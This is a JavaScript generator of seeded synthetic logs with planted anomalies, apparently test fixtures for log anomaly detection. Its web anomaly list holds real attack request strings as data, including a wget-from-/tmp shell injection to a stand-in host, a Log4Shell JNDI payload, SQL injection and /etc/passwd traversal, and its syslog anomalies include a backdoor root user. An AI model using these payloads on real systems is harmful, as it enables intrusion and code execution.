// Makes realistic logs of four kinds from a seed, with events out of place at known lines.
// SPDX-License-Identifier: MIT

/** Numbers from 0 to 1, the same for the same seed (mulberry32). */
export function randomOf(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function makeRandom(seed) {
  const next = randomOf(seed);
  const int = (n) => Math.floor(next() * n);
  /* Zipf-like: early entries come up far more often, as in real logs. */
  const pick = (list) => list[Math.floor(list.length * next() ** 2.5)];
  const hex = (n) => Array.from({ length: n }, () => int(16).toString(16)).join('');
  return { next, int, pick, hex };
}

const pad = (n, width = 2) => String(n).padStart(width, '0');

/** Seconds as hh:mm:ss. */
function clock(seconds) {
  const parts = [Math.floor(seconds / 3600) % 24, Math.floor(seconds / 60) % 60, seconds % 60];
  return parts.map((part) => pad(part)).join(':');
}

/**
 * A template with its blanks filled in: {90} is a number below 90, {100:2} one of two digits,
 * {hex8} eight hexadecimal digits, and {a|b|c} one of the words.
 */
function fill(template, r) {
  return template.replace(/\{([^}]+)\}/g, (_, blank) => {
    if (blank.startsWith('hex')) return r.hex(Number(blank.slice(3)));
    if (blank.includes('|')) return r.pick(blank.split('|'));
    const [below, width = 1] = blank.split(':').map(Number);
    return pad(r.int(below), width);
  });
}

const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148',
  'Prometheus/2.45.0',
  'kube-probe/1.27',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
];

const PATHS = [
  '/api/v1/items/{90000}',
  '/static/js/app.{hex8}.js',
  '/healthz',
  '/api/v1/users/{5000}/cart',
  '/',
  '/search?q={shoes|lamp|red+chair|desk|green+tea|book}&page={9}',
  '/img/products/{9000}.webp',
  '/login',
  '/favicon.ico',
  '/robots.txt',
];

const WEB_ANOMALIES = [
  `POST /boaform/admin/formLogin HTTP/1.1" 404 19 "-" "polaris botnet"`,
  `PROPFIND /webdav/ HTTP/1.1" 405 157 "-" "Microsoft-WebDAV-MiniRedir/10.0"`,
  `GET /index.php?id=1%27%20UNION%20SELECT%20pw-- HTTP/1.1" 403 162 "-" "sqlmap/1.7.2#stable"`,
  `GET /cgi-bin/../../../../../../etc/passwd HTTP/1.0" 400 157 "-" "-"`,
  `\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03" 400 157 "-" "-"`,
  `GET /.env HTTP/1.1" 404 19 "-" "python-requests/2.28"`,
  `GET /shell?cd+/tmp;wget+http://192.0.2.7/jaws HTTP/1.1" 404 19 "-" "Hello, world"`,
  `GET /\${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1" 400 157 "-" "\${jndi:ldap://203.0.113.9/a}"`,
  `CONNECT mail.example.net:25 HTTP/1.1" 405 157 "-" "-"`,
  `DELETE /api/v1/admin/backup/all?force=true HTTP/1.1" 500 3021 "-" "curl/7.88.1"`,
];

const APP = [
  'INFO  [http-{8}] c.a.orders.OrderService - Order {99999} accepted for {9999} in {90} ms',
  'DEBUG [http-{8}] c.a.cache.Lookup - hit key=user:{9999} ttl={300}s',
  'DEBUG [http-{8}] c.a.cache.Lookup - miss key=item:{9999}, loading',
  'INFO  [worker-{4}] c.a.mail.Sender - Sent receipt to user{9999}@example.com, id <{hex16}@mail>',
  'INFO  [worker-{4}] c.a.pay.Gateway - Payment {hex8}-{hex4}-{hex4} settled, {400}.{100:2} EUR',
  'INFO  [sched-1] c.a.jobs.Runner - Job cleanup-sessions finished, removed {50} rows',
  'WARN  [http-{8}] c.a.web.Throttle - Client 10.0.{9}.{250} throttled, {60} requests in 10 s',
  'INFO  [sched-1] c.a.db.Pool - connections active={20} idle={20} waiting=0',
  'WARN  [worker-{4}] c.a.pay.Gateway - Payment {hex8}-{hex4}-{hex4} retried after {9000} ms',
  'INFO  [sched-2] c.a.metrics.Reporter - flushed {4000} points to /var/lib/metrics/{hex6}.tsm',
  'DEBUG [http-{8}] c.a.auth.Session - token renewed for user {9999}, expires in 3600 s',
  'INFO  [http-{8}] c.a.web.Access - GET /orders/{99999} 200 {90} ms',
];

const APP_ANOMALIES = [
  `ERROR [http-3] c.a.orders.OrderService - java.lang.NullPointerException: "customer" is null`,
  `FATAL [main] c.a.store.Journal - checksum mismatch in /data/journal.bin at 184467`,
  `ERROR [sched-1] c.a.db.Pool - FATAL: remaining connection slots are reserved`,
  `WARN  [sched-2] o.s.gc.Monitor - Full GC (Ergonomics) paused all threads for 18.4 s`,
  `ERROR [worker-1] c.a.pay.Gateway - TLS handshake failed: the certificate has expired`,
  `ERROR [worker-2] c.a.mail.Sender - 550 5.7.1 message rejected: domain is on a block list`,
  `INFO  [main] c.a.config.Loader - feature flag "shadow-billing" switched ON by root`,
  `ERROR [http-5] c.a.web.Upload - No space left on device while writing /var/spool/upload`,
];

/* What follows the first of them. */
const TRACE = [
  '\tat com.acme.orders.OrderService.ship(OrderService.java:214)',
  '\tat com.acme.orders.OrderController.post(OrderController.java:88)',
  'Caused by: java.io.IOException: Broken pipe',
  '\t... 24 more',
];

const SYSLOG = [
  'sshd[{30000}]: Accepted publickey for deploy from 10.1.{5}.{250} port {60000} ssh2',
  'CRON[{30000}]: (root) CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.hourly)',
  'systemd[1]: Started Session {9000} of user deploy.',
  'systemd[1]: session-{9000}.scope: Succeeded.',
  'dhclient[712]: DHCPREQUEST for 10.1.0.14 on eth0 to 10.1.0.1 port 67 (xid=0x{hex8})',
  'dhclient[712]: DHCPACK of 10.1.0.14 from 10.1.0.1',
  'postfix/smtpd[{30000}]: connect from mail-{40}.example.org[192.0.2.{250}]',
  'postfix/smtpd[{30000}]: disconnect from mail-{40}.example.org[192.0.2.{250}] commands=2',
  'kernel: [{900000}.{1000000:6}] UFW BLOCK IN=eth0 OUT= SRC=198.51.100.{250} SPT={60000}',
  'systemd-resolved[533]: Using degraded feature set UDP for DNS server 10.1.0.1.',
];

const SYSLOG_ANOMALIES = [
  'kernel: Out of memory: Killed process 2211 (postgres) total-vm:8123456kB, anon-rss:6012344kB',
  'kernel: EXT4-fs error (device sda1): ext4_find_entry:1455: inode #262145',
  'sshd[2041]: Failed password for invalid user admin from 203.0.113.77 port 50022 ssh2',
  'sudo: www-data : command not allowed ; USER=root ; COMMAND=/bin/bash',
  'kernel: mce: [Hardware Error]: Machine check events logged',
  'systemd[1]: nginx.service: Main process exited, code=killed, status=11/SEGV',
  'ntpd[801]: time reset +3599.981 s',
  'kernel: usb 1-1: new high-speed USB device number 5 using xhci_hcd',
  'useradd[991]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/sh',
  'auditd[420]: Audit daemon rotating log files because disk is at 99%',
];

const JSON_DONE = ['request completed', 'cache refreshed', 'item added', 'session renewed'];

const JSON_ANOMALIES = [
  { level: 'error', service: 'billing', msg: 'card declined by issuer', ms: 41, id: '7c01aa9e' },
  { level: 'info', service: 'search', msg: 'request completed', ms: 48213000, id: '01aa9e7c' },
  { level: 'fatal', service: 'cart', msg: 'out of file descriptors', ms: 3, id: '00bd77aa' },
  { level: 'warn', service: 'cart', msg: 'schema migration skipped', ms: 12, id: '3300bdaa' },
];

function web(r, seconds, text) {
  const head = `10.0.${r.int(6)}.${r.int(250)} - - [01/Mar/2024:${clock(seconds)} +0000] "`;
  if (text !== undefined) return head + text;
  const status = r.pick([200, 200, 200, 200, 304, 302, 404]);
  const path = r.pick(PATHS);
  const method = /cart|login/.test(path) && r.next() < 0.5 ? 'POST' : 'GET';
  const size = status === 304 ? 0 : r.int(40000);
  const request = `${method} ${fill(path, r)} HTTP/1.1`;
  return `${head}${request}" ${status} ${size} "-" "${r.pick(AGENTS)}"`;
}

function app(r, seconds, text) {
  const time = `2024-03-01T${clock(seconds)}.${pad(r.int(1000), 3)}Z`;
  return `${time} ${text ?? fill(r.pick(APP), r)}`;
}

function syslog(r, seconds, text) {
  return `Mar  1 ${clock(seconds)} web01 ${text ?? fill(r.pick(SYSLOG), r)}`;
}

function json(r, seconds, fields) {
  const time = `2024-03-01T${clock(seconds)}.${pad(r.int(1000), 3)}Z`;
  const level = r.next() < 0.95 ? 'info' : 'warn';
  const usual = { level, service: r.pick(['cart', 'search', 'billing']), msg: r.pick(JSON_DONE) };
  return JSON.stringify({ time, ...(fields ?? { ...usual, ms: 2 + r.int(90), id: r.hex(8) }) });
}

const KINDS = {
  web: { line: web, anomalies: WEB_ANOMALIES },
  app: { line: app, anomalies: APP_ANOMALIES, trace: TRACE },
  syslog: { line: syslog, anomalies: SYSLOG_ANOMALIES },
  json: { line: json, anomalies: JSON_ANOMALIES },
};
export const LOG_KINDS = Object.keys(KINDS);

/**
 * A log of `kind` with `count` ordinary lines, and the first `injected` of the kind's anomalies (all unless given)
 * somewhere after the share `after` of them. The first one of 'app' has a stack trace. Gives its lines, its events, the whole as
 * `text`, the anomalies as `planted` with the numbers of their first lines, and as `anomalies` all their lines.
 */
export function makeLog(kind, count, seed, { injected, after = 0.1 } = {}) {
  const { line, anomalies, trace } = KINDS[kind];
  const r = makeRandom(seed);
  const at = new Map();
  while (at.size < (injected ?? anomalies.length)) {
    const place = Math.floor(count * (after + (1 - after) * r.next()));
    if (!at.has(place)) at.set(place, anomalies[at.size]);
  }
  const log = { lines: [], events: [], planted: [], anomalies: new Set() };
  const add = (lines) => {
    log.events.push(lines.join('\n'));
    log.lines.push(...lines);
  };
  let seconds = 3600;
  for (let i = 0; i < count; i++) {
    if (r.next() < 0.3) seconds++;
    const anomaly = at.get(i);
    if (anomaly !== undefined) {
      const first = log.lines.length + 1;
      const rest = trace !== undefined && anomaly === anomalies[0] ? trace : [];
      add([line(r, seconds, anomaly), ...rest]);
      log.planted.push({ line: first, text: log.events.at(-1) });
      for (let n = first; n <= log.lines.length; n++) log.anomalies.add(n);
    }
    add([line(r, seconds)]);
  }
  return { ...log, text: `${log.lines.join('\n')}\n` };
}

/** Five lines over and over, with `strange` put in as line number `at`: the easiest case. */
export function makeRepetitive(count, at, strange) {
  const cycle = [
    'worker started',
    'loading configuration from /etc/worker.conf',
    'connected to queue jobs on 10.0.0.5:5672',
    'processed 100 messages',
    'worker finished, sleeping 60 seconds',
  ];
  return Array.from({ length: count }, (_, i) => (i + 1 === at ? strange : cycle[i % 5]));
}
